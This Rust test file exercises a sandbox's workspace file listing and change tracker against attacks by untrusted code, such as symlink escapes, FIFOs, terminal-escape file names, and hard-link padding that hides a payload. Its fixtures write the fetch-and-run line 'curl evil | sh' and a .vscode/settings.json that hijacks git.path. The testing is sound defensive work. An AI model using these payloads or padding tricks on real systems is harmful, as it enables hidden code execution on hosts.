//! What a block can leave in the workspace, read by the host: each test is the attack.

use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::symlink;
use std::path::Path;

use super::changes::Tracker;
use super::listing::{EntryKind, Listing};
use super::read::{Refusal, open_regular, read_prefix};
use crate::protocol::FileChangeKind;

fn write(root: &Path, path: &str, text: &str) {
    let path = root.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[test]
fn a_symlink_out_of_the_workspace_is_listed_but_never_followed() {
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "secret.txt", "host secret");
    let root = tempfile::tempdir().unwrap();
    symlink(
        outside.path().join("secret.txt"),
        root.path().join("leak.txt"),
    )
    .unwrap();
    symlink(outside.path(), root.path().join("hostdir")).unwrap();

    let listing = Listing::scan(root.path()).unwrap();
    let names: Vec<String> = listing.entries.iter().map(|e| e.shown_path()).collect();
    assert_eq!(
        names,
        ["hostdir", "leak.txt"],
        "nothing is read through the link"
    );
    assert!(
        matches!(&listing.entries[1].kind, EntryKind::Symlink(to) if to.as_bytes().ends_with(b"secret.txt"))
    );

    let refused = open_regular(root.path(), Path::new("leak.txt")).err();
    assert!(matches!(refused, Some(Refusal::Symlink(_))), "{refused:?}");
    let through = read_prefix(root.path(), Path::new("hostdir/secret.txt"), 100).err();
    assert_eq!(through, Some(Refusal::Outside));
    let climbing = read_prefix(root.path(), Path::new("../secret.txt"), 100).err();
    assert_eq!(climbing, Some(Refusal::Outside));
}

#[test]
fn a_fifo_is_refused_at_once_instead_of_hanging_the_reader() {
    let root = tempfile::tempdir().unwrap();
    rustix::fs::mkfifoat(
        rustix::fs::CWD,
        root.path().join("pipe"),
        rustix::fs::Mode::from_raw_mode(0o644),
    )
    .unwrap();
    let refused = read_prefix(root.path(), Path::new("pipe"), 100).err();
    assert_eq!(refused, Some(Refusal::Special("FIFO")));
    let listing = Listing::scan(root.path()).unwrap();
    assert_eq!(listing.entries[0].kind, EntryKind::Special("FIFO"));
}

#[test]
fn reading_is_bounded() {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "big.txt", &"x".repeat(10_000));
    let (bytes, more) = read_prefix(root.path(), Path::new("big.txt"), 4096).unwrap();
    assert_eq!((bytes.len(), more), (4096, true));
    let (bytes, more) = read_prefix(root.path(), Path::new("big.txt"), 10_000).unwrap();
    assert_eq!((bytes.len(), more), (10_000, false));
}

#[test]
fn a_deep_chain_of_directories_is_walked_only_so_far() {
    let root = tempfile::tempdir().unwrap();
    let deep: std::path::PathBuf = (0..100).map(|_| "d").collect();
    std::fs::create_dir_all(root.path().join(&deep)).unwrap();
    let listing = Listing::scan(root.path()).unwrap();
    assert_eq!(listing.entries.len(), super::listing::MAX_DEPTH);
    assert_eq!(listing.unread_dirs(), 1);
}

#[test]
fn each_run_reports_what_it_created_changed_and_removed() {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "kept.txt", "same");
    write(root.path(), "edited.txt", "one");
    write(root.path(), "gone.txt", "bye");
    let mut tracker = Tracker::start(root.path());
    assert_eq!(
        tracker.changes(),
        [],
        "what was there before is no run's change"
    );

    write(root.path(), "data/new.csv", "a,b\n1,2\n");
    write(root.path(), "edited.txt", "two");
    std::fs::remove_file(root.path().join("gone.txt")).unwrap();
    let changes = tracker.changes();
    let seen: Vec<(&str, FileChangeKind)> = changes
        .iter()
        .map(|c| (c.path.as_str(), c.change))
        .collect();
    assert_eq!(
        seen,
        [
            ("data/new.csv", FileChangeKind::Created),
            ("edited.txt", FileChangeKind::Changed),
            ("gone.txt", FileChangeKind::Removed),
        ]
    );
    let created = &changes[0];
    assert_eq!(created.size, 8);
    assert_eq!(
        created.sha256.as_deref(),
        Some("492d5ea496056f1a6a6592241032fab764c321596317930b4fa0e1e8bc3b7470")
    );
    assert_eq!(
        tracker.changes(),
        [],
        "a run that touches nothing changes nothing"
    );
}

#[test]
fn a_rewrite_that_puts_the_old_time_back_is_still_a_change() {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "report.json", "{\"ok\": true}");
    let path = root.path().join("report.json");
    let before = std::fs::metadata(&path).unwrap().modified().unwrap();
    let mut tracker = Tracker::start(root.path());
    std::thread::sleep(std::time::Duration::from_millis(20));
    std::fs::write(&path, "{\"ok\": fals}").unwrap();
    std::fs::File::options()
        .write(true)
        .open(&path)
        .unwrap()
        .set_modified(before)
        .unwrap();
    let changes = tracker.changes();
    assert_eq!(changes.len(), 1, "{changes:?}");
    assert_eq!(changes[0].change, FileChangeKind::Changed);
}

#[test]
fn touching_a_file_without_changing_it_is_no_change() {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "a.txt", "same");
    let mut tracker = Tracker::start(root.path());
    write(root.path(), "a.txt", "other");
    assert_eq!(tracker.changes().len(), 1);
    std::thread::sleep(std::time::Duration::from_millis(20));
    write(root.path(), "a.txt", "other");
    assert_eq!(tracker.changes(), [], "same content, new times");
}

#[test]
fn a_hostile_file_name_reaches_the_record_harmless() {
    let root = tempfile::tempdir().unwrap();
    let mut tracker = Tracker::start(root.path());
    write(root.path(), "\u{1b}[31mred\nline.txt", "x");
    let changes = tracker.changes();
    assert_eq!(changes[0].path, "\\u001B[31mred\\u000Aline.txt");
}

/// Runs the test `name` of this binary again as `nobody` and asserts it passed: root reads
/// through any mode, an operator does not. `false` when this is that run (or not root).
fn rerun_unprivileged(name: &str) -> bool {
    use std::os::unix::process::CommandExt;
    const AGAIN: &str = "AIRLOCK_TEST_UNPRIVILEGED";
    if std::env::var_os(AGAIN).is_some() || !rustix::process::getuid().is_root() {
        return false;
    }
    let output = std::process::Command::new(std::env::current_exe().unwrap())
        .args(["--exact", name, "--nocapture"])
        .env(AGAIN, "1")
        .uid(65534)
        .gid(65534)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success() && said.contains("1 passed"),
        "the unprivileged run failed:\n{said}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    true
}

#[test]
fn a_directory_listed_but_not_searchable_says_so_and_forgets_nothing() {
    use std::os::unix::fs::PermissionsExt;
    let name = "files::attacks::a_directory_listed_but_not_searchable_says_so_and_forgets_nothing";
    if rerun_unprivileged(name) {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "d/old.txt", "before");
    let mut tracker = Tracker::start(root.path());
    write(root.path(), "d/payload.sh", "curl evil | sh");
    let mode = |bits| std::fs::Permissions::from_mode(bits);
    // Its names can be read, but none of them looked up.
    std::fs::set_permissions(root.path().join("d"), mode(0o400)).unwrap();
    let changes = tracker.changes();
    let incomplete = tracker.incomplete().map(str::to_string);
    std::fs::set_permissions(root.path().join("d"), mode(0o700)).unwrap();
    assert!(changes.is_empty(), "nothing is taken for gone: {changes:?}");
    assert_eq!(
        incomplete.as_deref(),
        Some("directories that could not be read (1)")
    );
    let changes = tracker.changes();
    let seen: Vec<&str> = changes.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(seen, ["d/payload.sh"], "recorded once it can be seen");
}

#[test]
fn a_walk_cut_too_deep_says_so_and_forgets_nothing() {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "kept.txt", "before");
    let deep: std::path::PathBuf = (0..super::changes::RECORD_DEPTH + 2).map(|_| "d").collect();
    let mut tracker = Tracker::start(root.path());
    let seventy: std::path::PathBuf = (0..70).map(|_| "d").collect();
    write(
        root.path(),
        &seventy.join("at70.txt").to_string_lossy(),
        "x",
    );
    write(root.path(), &deep.join("past.txt").to_string_lossy(), "x");
    let changes = tracker.changes();
    let paths: Vec<&str> = changes.iter().map(|c| c.path.as_str()).collect();
    assert!(
        paths.len() == 1 && paths[0].ends_with("/at70.txt"),
        "a file 70 levels deep is recorded: {paths:?}"
    );
    assert_eq!(tracker.incomplete(), Some("too deep (128 levels)"));
}

/// Fills `dir` with more names than a walk reads, of a few inodes (a host filesystem allows
/// some 65000 links to one), as a block with `workspace_inodes` raised can.
fn pad(root: &Path, dir: &str) {
    for n in 0..super::listing::MAX_ENTRIES {
        let pad = format!("{dir}/pad{}", n / 50_000);
        if n % 50_000 == 0 {
            write(root, &pad, "");
        }
        std::fs::hard_link(root.join(pad), root.join(format!("{dir}/{n}"))).unwrap();
    }
}

#[test]
fn a_walk_cut_by_hard_link_padding_says_so_and_forgets_nothing() {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "z_kept.txt", "before");
    let mut tracker = Tracker::start(root.path());
    write(root.path(), "b/payload.sh", "curl evil | sh");
    pad(root.path(), "a");
    let changes = tracker.changes();
    assert!(
        changes
            .iter()
            .all(|c| c.change == FileChangeKind::Created && c.path.starts_with("a/")),
        "nothing past the cut is reported"
    );
    assert_eq!(tracker.incomplete(), Some("too many entries (100000)"));

    std::fs::remove_dir_all(root.path().join("a")).unwrap();
    let changes = tracker.changes();
    let seen: Vec<(&str, FileChangeKind)> = changes
        .iter()
        .filter(|c| !c.path.starts_with("a/"))
        .map(|c| (c.path.as_str(), c.change))
        .collect();
    assert_eq!(
        seen,
        [("b/payload.sh", FileChangeKind::Created)],
        "the file past the cut is recorded once seen; the one before it was never lost"
    );
    assert_eq!(tracker.incomplete(), None);
}

#[test]
fn a_payload_past_a_cut_walk_is_named_when_the_padding_goes_before_the_next_block() {
    let root = tempfile::tempdir().unwrap();
    let mut tracker = Tracker::start(root.path());
    // The block: its payload first, then padding whose names the walk reads before it
    // (`-` sorts before `.`), so the walk after the run stops short of the payload.
    write(
        root.path(),
        ".vscode/settings.json",
        "{\"git.path\": \"/tmp/x\"}",
    );
    pad(root.path(), "-pad");
    let changes = tracker.changes();
    assert!(
        changes.iter().all(|c| c.path.starts_with("-pad/")),
        "the payload is past the cut: {:?}",
        changes.iter().find(|c| !c.path.starts_with("-pad/"))
    );
    assert_eq!(tracker.incomplete(), Some("too many entries (100000)"));

    // The padding goes (the operator tidies up) before the next block.
    std::fs::remove_dir_all(root.path().join("-pad")).unwrap();
    let notice = tracker.before_block();
    let notice = notice.as_deref().unwrap_or("nothing was said");
    assert!(
        notice.starts_with("found after an incomplete file list (too many entries (100000))")
            && notice.ends_with(": .vscode/settings.json"),
        "{notice}"
    );
    assert_eq!(tracker.incomplete(), None);

    // Once the list is whole again, the operator's own edits are theirs: nothing is said.
    write(root.path(), ".vscode/extensions.json", "{}");
    assert_eq!(tracker.before_block(), None);
}
